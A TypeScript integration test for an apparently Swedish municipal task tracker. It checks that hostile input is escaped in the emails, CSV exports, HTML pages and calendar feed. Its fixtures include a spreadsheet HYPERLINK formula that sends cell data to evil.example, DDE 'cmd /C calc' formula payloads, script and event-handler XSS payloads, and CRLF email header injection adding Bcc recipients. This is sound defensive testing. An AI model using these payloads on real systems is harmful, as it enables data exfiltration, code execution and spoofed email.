/**
 * Injection: markup and script, header injection (CR, LF), spreadsheet formulas, bidi overrides
 * and zero-width characters in every text field of an item, registered through the API, then
 * followed to everywhere the text is rendered: the reminder and escalation emails (the raw MIME
 * the SES adapter sent), the weekly overview with its CSV attachment, the CSV exports, the pages
 * under /p/, the overdue page and the iCalendar feed. The assertions are on the rendered output.
 */
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { simpleParser, type ParsedMail } from 'mailparser';
import ical, { type VEvent } from 'node-ical';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { signLocalToken } from '../../local/tokens';
import { runReminders } from '../../shared/application/reminders/job';
import { createReminderDependencies } from '../../functions/reminders/dependencies';
import { runDigest } from '../../shared/application/digest/job';
import { createDigestDependencies } from '../../functions/digest/dependencies';
import type { Role } from '../../shared/domain/caller';
import { routeServer } from '../support/route-server';
import { headerBlock, headerNames, sesRecorder } from '../support/ses-recorder';
import { scanTable } from '../support/table-snapshot';

const RUN = `${process.pid}-${Date.now()}`;
const kim = { name: '', email: `kim.injektion.${RUN}@kommun.example.se` };
const chef = { name: '', email: `chef.injektion.${RUN}@kommun.example.se` };
const clerk = `registrator.injektion.${RUN}@kommun.example.se`;

/**
 * One hostile value per field, within its length bound, each starting with a spreadsheet formula.
 * Bidi overrides and isolates are refused at the door (test/integration/input-rules.test.ts); the
 * invisible marks that remain storable (U+200F, U+200B) must be cleaned on the way out.
 */
const H = {
  title: `=HYPERLINK("http://evil.example/?d="&A1;"Klicka")<script>alert('title')</script>\u200Fexe.gnp\u200B`,
  caseNumber: `+cmd|' /C calc'!A0"><img src=x onerror=alert(1)>`,
  paragraph: `-1+1<b>§ 9</b>\u200F`,
  name: `@SUM(1+1)*cmd|' /C calc'!A0 "><svg onload=alert('name')>\u200B`,
  manager: `=1+2 <script>alert('manager')</script>\u200Ffdp.exe`,
  unit: `@Enhet <i>${RUN}</i> \u200F\u200B"><img src=x>`,
  recipient: `-2+3+cmd|' /C calc'!A0 <script>alert('recipient')</script>`,
  description: `\t=cmd|' /C calc'!A0\r\nBcc: evil@example.com\r\n\r\n<script>alert('description')</script>\u200F`,
  reason: `\r=1+1\r\nBcc: evil@example.com\r\nSubject: fake\r\n<img src=x onerror=alert('reason')>\u200B`,
  note: `@SUM(1+1)\r\nTo: evil@example.com <script>alert('note')</script>\u200F`,
  extension: `+1\r\nCc: evil@example.com <svg onload=alert('extension')>`,
};
kim.name = H.name;
chef.name = H.manager;

/**
 * What markup a document has: its tags and their attributes. Escaped user text has no "<", so any
 * tag here is the template's or an injection: no script, image, SVG or formatting tag from the
 * hostile values, and no event handler attribute.
 */
function injectedMarkup(html: string): string[] {
  const found: string[] = [];
  for (const [, name, attrs] of html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)) {
    if (/^(script|img|svg|iframe|object|embed|b|i)$/i.test(name!)) found.push(`<${name}>`);
    for (const [, attr] of attrs!.matchAll(/\s([^\s=/>]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      if (/^on/i.test(attr!)) found.push(`<${name} ${attr}>`);
    }
  }
  return found;
}
const INVISIBLE = /[\u202A-\u202E\u2066-\u2069\u200B-\u200F\u2060\uFEFF]/;

let server: Awaited<ReturnType<typeof routeServer>>;
let recorder: Awaited<ReturnType<typeof sesRecorder>>;
const ids: Record<string, string> = {};
let pageToken = '';

async function http(method: string, path: string, as: { email: string; roles?: Role[]; unit?: string }, options: { body?: unknown; accept?: string; headers?: Record<string, string> } = {}) {
  const token = await signLocalToken({ email: as.email, roles: as.roles ?? [], ...(as.unit ? { unit: as.unit } : {}) }, inject('jwtSecret'));
  const response = await fetch(`${server.url}${path}`, {
    method,
    redirect: 'manual',
    headers: {
      authorization: `Bearer ${token}`,
      ...(options.body !== undefined ? { 'content-type': 'application/json' } : {}),
      ...(options.accept ? { accept: options.accept } : {}),
      ...options.headers,
    },
    ...(options.body !== undefined ? { body: JSON.stringify(options.body) } : {}),
  });
  const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
  return { status: response.status, headers: response.headers, text, json: /json/.test(response.headers.get('content-type') ?? '') && text ? JSON.parse(text) : undefined };
}

const registrar = { email: clerk, roles: ['registrar'] as Role[] };
const admin = { email: `admin.injektion.${RUN}@kommun.example.se`, roles: ['admin'] as Role[] };

beforeAll(async () => {
  recorder = await sesRecorder(inject('sesEndpoint'));
  server = await routeServer({ SES_ENDPOINT: recorder.url });
  const { deps } = server;
  deps.at('2027-05-24T09:00:00+02:00');

  const created = await http('POST', '/uppdrag', registrar, {
    body: {
      kind: 'uppdrag',
      title: H.title,
      description: H.description,
      caseNumber: H.caseNumber,
      decision: { body: 'KS', date: '2027-04-12', paragraph: H.paragraph },
      responsible: kim,
      unit: H.unit,
      manager: chef,
      due: { date: '2027-05-20' },
    },
  });
  expect(created.status, created.text).toBe(201);
  ids.main = created.json.id;
  const yttrande = await http('POST', '/uppdrag', registrar, {
    body: {
      kind: 'yttrande',
      title: '+1 <b>fet</b> rubrik',
      caseNumber: 'KS 2027/99',
      decision: { body: 'KS', date: '2027-04-12', paragraph: '§ 10' },
      responsible: kim,
      unit: H.unit,
      due: { externalDeadline: '2027-06-10', recipient: H.recipient },
    },
  });
  expect(yttrande.status, yttrande.text).toBe(201);
  ids.yttrande = yttrande.json.id;

  // A changed deadline with a hostile reason.
  const changed = await http('PATCH', `/uppdrag/${ids.main}`, registrar, { body: { due: { date: '2027-05-21' }, reason: H.reason }, headers: { 'if-match': '"1"' } });
  expect(changed.status, changed.text).toBe(200);
  // The unit directory names the hostile manager too.
  const unit = await http('PUT', `/units/${encodeURIComponent(H.unit)}`, admin, { body: { manager: chef } });
  expect(unit.status, unit.text).toBe(200);

  // The official's own page: a lägesrapport and a request for more time, in their words.
  pageToken = await deps.links.sign({ kind: 'official', email: kim.email });
  const page = await fetch(`${server.url}/p/${pageToken}`);
  const csrf = /name="csrf" value="([^"]+)"/.exec(await page.text())?.[1] ?? '';
  const form = async (action: string, fields: Record<string, string>) =>
    fetch(`${server.url}/p/${pageToken}/uppdrag/${ids.yttrande}/${action}`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ csrf, ...fields }).toString(),
    });
  expect((await form('status-report', { note: H.note })).headers.get('location')).toContain('m=status-report');
  expect((await form('extension', { date: '2027-06-10', reason: H.extension })).headers.get('location')).toContain('m=extension');
});

afterAll(async () => {
  await server?.stop();
  await recorder?.stop();
});

describe('one-line fields refuse a line break at the door', () => {
  const oneLine: [string, (v: string) => Record<string, unknown>][] = [
    ['title', (v) => ({ title: v })],
    ['caseNumber', (v) => ({ caseNumber: v })],
    ['decision.paragraph', (v) => ({ decision: { body: 'KS', date: '2027-04-12', paragraph: v } })],
    ['responsible.name', (v) => ({ responsible: { name: v, email: kim.email } })],
    ['manager.name', (v) => ({ manager: { name: v, email: chef.email } })],
    ['unit', (v) => ({ unit: v })],
  ];
  it.each(oneLine)('%s', async (path, field) => {
    const body = { kind: 'uppdrag', title: 'Rubrik', caseNumber: 'KS 1', decision: { body: 'KS', date: '2027-04-12', paragraph: '§ 1' }, responsible: { name: 'Kim', email: kim.email }, unit: 'Enhet', due: { date: '2027-09-30' }, ...field('Rubrik\r\nBcc: evil@example.com') };
    const response = await http('POST', '/uppdrag', registrar, { body });
    expect(response.status).toBe(400);
    expect(response.json.issues.map((i: { path: string }) => i.path)).toContain(path);
  });
});

// ---------------------------------------------------------------------------------------------
async function emailsOf(address: string): Promise<{ raw: string; mail: ParsedMail }[]> {
  return Promise.all(recorder.to(address).map(async (raw) => ({ raw, mail: await simpleParser(raw) })));
}

/** The checks every email gets: its headers are the composer's, addressed to one person; its parts hold no markup or invisible text. */
function expectHarmless({ raw, mail }: { raw: string; mail: ParsedMail }, to: string) {
  const allowed = ['content-type', 'from', 'to', 'cc', 'reply-to', 'subject', 'message-id', 'date', 'mime-version', 'content-transfer-encoding'];
  expect(headerNames(raw).filter((n) => !allowed.includes(n))).toEqual([]);
  expect(headerNames(raw).filter((n) => n === 'to')).toHaveLength(1);
  expect(headerNames(raw).filter((n) => n === 'subject')).toHaveLength(1);
  expect(headerBlock(raw)).not.toMatch(/evil@example\.com|^bcc:/im);
  expect(mail.bcc).toBeUndefined();
  expect((Array.isArray(mail.to) ? mail.to : [mail.to]).flatMap((a) => a?.value.map((v) => v.address) ?? [])).toEqual([to]);
  expect(mail.subject ?? '').not.toMatch(/[\r\n]/);
  expect(mail.subject ?? '').not.toMatch(INVISIBLE);
  expect(mail.text ?? '').not.toMatch(INVISIBLE);
  expect(injectedMarkup(String(mail.html))).toEqual([]);
  expect(String(mail.html)).not.toMatch(INVISIBLE);
  expect(String(mail.html)).toContain('&lt;');
}

describe('emails: the raw MIME the SES adapter sent', () => {
  beforeAll(async () => {
    // 2027-05-31: 11 days overdue (past escalateAfterDays 7), so the manager is copied in their own email.
    server.deps.at('2027-05-31T07:00:00+02:00');
    const report = await runReminders({ ...createReminderDependencies(server.deps.env, server.deps.clock), backoffMs: 5 });
    expect(report.failed).toEqual([]);
    // Monday 7 June: the weekly overview, with its CSV attachment.
    server.deps.at('2027-06-07T07:00:00+02:00');
    const digest = await runDigest({ ...createDigestDependencies(server.deps.env, server.deps.clock), backoffMs: 5 });
    expect(digest.failed).toEqual([]);
  });

  it("the official's reminder: headers unchanged, every hostile value escaped or cleaned", async () => {
    const [email] = await emailsOf(kim.email);
    expect(email, 'no reminder to the official').toBeDefined();
    expectHarmless(email!, kim.email);
    // The title arrives, escaped, without its invisible characters.
    expect(String(email!.mail.html)).toContain(`&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;exe.gnp`);
    expect(email!.mail.text).toContain(`<script>alert('title')</script>exe.gnp`);
    expect(String(email!.mail.html)).toContain('&lt;script&gt;alert(&#39;recipient&#39;)&lt;/script&gt;');
  });

  it("the manager's escalation and the registrar's notice: the same", async () => {
    const toManager = await emailsOf(chef.email);
    const toRegistrar = await emailsOf(clerk);
    expect(toManager.length).toBeGreaterThanOrEqual(1);
    expect(toRegistrar.length).toBeGreaterThanOrEqual(1);
    for (const email of toManager) expectHarmless(email, chef.email);
    for (const email of toRegistrar) expectHarmless(email, clerk);
    // The unit is in the manager's subject: on one line, without its invisible characters.
    expect(toManager.map((e) => e.mail.subject).join('\n')).toContain('@Enhet <i>');
    // The official's request for more time reaches the registrar as text.
    expect(toRegistrar.map((e) => String(e.mail.html)).join('\n')).toContain('&lt;svg onload=alert(&#39;extension&#39;)&gt;');
  });

  it("the weekly overview's CSV attachment neutralizes every formula", async () => {
    const digests = (await emailsOf(chef.email)).filter((e) => e.mail.attachments.length > 0);
    expect(digests.length).toBeGreaterThanOrEqual(1);
    const csv = digests[0]!.mail.attachments[0]!.content.toString('utf8');
    expectSafeCsv(csv, [H.title, H.name, H.reason]);
  });
});

// ---------------------------------------------------------------------------------------------
/** Every cell that a spreadsheet would run as a formula starts with an apostrophe; numbers stay numbers. */
function expectSafeCsv(text: string, expectedValues: string[]) {
  const rows: string[][] = parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true });
  const cells = rows.flat();
  const formulas = cells.filter((c) => /^(?:[\t\r\n]|\s*[=+\-@])/.test(c) && !/^-?\d+$/.test(c));
  expect(formulas).toEqual([]);
  expect(cells.filter((c) => INVISIBLE.test(c))).toEqual([]);
  for (const value of expectedValues) {
    // As stored (trimmed), as rendered (line breaks as LF, invisible characters gone), neutralized.
    const cleaned = value.trim().replace(/\r\n|\r/g, '\n').replace(new RegExp(INVISIBLE.source, 'g'), '');
    expect(cells, `${JSON.stringify(cleaned)} in the CSV`).toContain(`'${cleaned}`);
  }
}

describe('CSV exports', () => {
  it('GET /uppdrag as text/csv', async () => {
    const response = await http('GET', `/uppdrag?unit=${encodeURIComponent(H.unit)}`, registrar, { accept: 'text/csv' });
    expect(response.status).toBe(200);
    expectSafeCsv(response.text, [H.title, H.caseNumber, H.paragraph, H.name, H.unit, H.reason]);
  });

  it('GET /overdue as text/csv', async () => {
    const response = await http('GET', `/overdue?unit=${encodeURIComponent(H.unit)}`, registrar, { accept: 'text/csv' });
    expect(response.status).toBe(200);
    expectSafeCsv(response.text, [H.title, H.name, H.reason]);
  });

  it.skipIf(!existsSync(join(import.meta.dirname, '../../functions/reports/handler.ts')))('GET /reports/verkstallighet as text/csv', async () => {
    const response = await http('GET', '/reports/verkstallighet?body=KS&asOf=2027-06-01', registrar, { accept: 'text/csv' });
    expect(response.status).toBe(200);
    expectSafeCsv(response.text, [H.title]);
  });
});

describe("a manager's exports hold only their unit", () => {
  it('the item list and the overdue list as CSV, and the overdue page', async () => {
    const other = await http('POST', '/uppdrag', registrar, {
      body: { kind: 'uppdrag', title: 'En annan enhets försenade ärende', caseNumber: 'KS 2027/1', decision: { body: 'KS', date: '2027-04-12', paragraph: '§ 1' }, responsible: { name: 'Eva Lind', email: kim.email }, unit: `Annan enhet ${RUN}`, due: { date: '2027-05-20' } },
    });
    expect(other.status).toBe(201);
    const manager = { email: chef.email, roles: ['manager'] as Role[], unit: H.unit };

    const list = await http('GET', '/uppdrag', manager, { accept: 'text/csv' });
    const overdue = await http('GET', '/overdue', manager, { accept: 'text/csv' });
    const page = await http('GET', '/overdue', manager, { accept: 'text/html' });
    const foreign = await http('GET', `/overdue?unit=${encodeURIComponent(`Annan enhet ${RUN}`)}`, manager, { accept: 'text/csv' });

    expect([list.status, overdue.status, page.status]).toEqual([200, 200, 200]);
    for (const answer of [list, overdue, page]) expect(answer.text).not.toContain('En annan enhets försenade ärende');
    const rows: string[][] = parse(list.text.replace(/^\uFEFF/, ''), { delimiter: ';' });
    expect(rows.slice(1).map((r) => r[9])).toEqual(rows.slice(1).map(() => `'${H.unit.replace(new RegExp(INVISIBLE.source, 'g'), '')}`));
    expect(rows.length).toBeGreaterThan(1);
    expect(foreign.status).toBe(403);
  });
});

// ---------------------------------------------------------------------------------------------
function expectHarmlessPage(page: { status: number; headers: Headers; text: string }) {
  expect(page.status).toBe(200);
  expect(page.headers.get('content-type')).toMatch(/^text\/html/);
  expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
  expect(injectedMarkup(page.text)).toEqual([]);
  expect(page.text).toContain('&lt;script&gt;');
  expect(page.text).not.toMatch(INVISIBLE);
}

describe('HTML pages', () => {
  it("the official's page (Mina ärenden) from their signed link", async () => {
    const response = await fetch(`${server.url}/p/${pageToken}`);
    const page = { status: response.status, headers: response.headers, text: await response.text() };
    expectHarmlessPage(page);
    expect(page.text).toContain('&lt;script&gt;alert(&#39;note&#39;)&lt;/script&gt;');
  });

  it("the manager's unit page from their signed link", async () => {
    const token = await server.deps.links.sign({ kind: 'unit', email: chef.email, unit: H.unit });
    const response = await fetch(`${server.url}/p/${token}`);
    expectHarmlessPage({ status: response.status, headers: response.headers, text: await response.text() });
  });

  it('the overdue list as a printable page', async () => {
    const page = await http('GET', `/overdue?unit=${encodeURIComponent(H.unit)}`, registrar, { accept: 'text/html' });
    expectHarmlessPage(page);
  });
});

// ---------------------------------------------------------------------------------------------
describe('the iCalendar feed', () => {
  it('holds each value as escaped text: no injected property, no markup, no invisible characters; the table keeps only the token\'s hash', async () => {
    const created = await http('POST', '/calendar-feeds', { email: kim.email });
    expect(created.status, created.text).toBe(201);
    const response = await fetch(new URL(new URL(created.json.url).pathname, server.url));
    const text = await response.text();

    expect(response.status).toBe(200);
    // Only the token's SHA-256 is stored: the URL cannot be read back out of the table.
    const feedToken = /\/calendar\/([^/.]+)\.ics$/.exec(created.json.url)![1]!;
    const table = JSON.stringify(await scanTable(server.deps.documentClient, server.deps.tableName));
    expect(table).not.toContain(feedToken);
    expect(table).toContain(createHash('sha256').update(feedToken).digest('hex'));
    // Every line is a property (NAME[;params]:value) or a folded continuation: nothing injected by a line break.
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines.filter((line) => !/^[A-Z][A-Z0-9-]*[;:]/.test(line) && !line.startsWith(' '))).toEqual([]);
    expect(lines.filter((line) => /^(BCC|CC|TO|SUBJECT|ATTENDEE|ORGANIZER)[;:]/i.test(line))).toEqual([]);
    expect(text).not.toMatch(INVISIBLE);
    const events = Object.values(ical.sync.parseICS(text)).filter((e): e is VEvent => e?.type === 'VEVENT');
    const summaries = events.map((e) => String(e.summary));
    expect(summaries.some((s) => s.includes(`<script>alert('title')</script>exe.gnp`))).toBe(true);
    for (const event of events) {
      expect(String(event.summary)).not.toMatch(/[\r\n]/);
      expect(String(event.description ?? '')).not.toMatch(INVISIBLE);
    }
  });
});
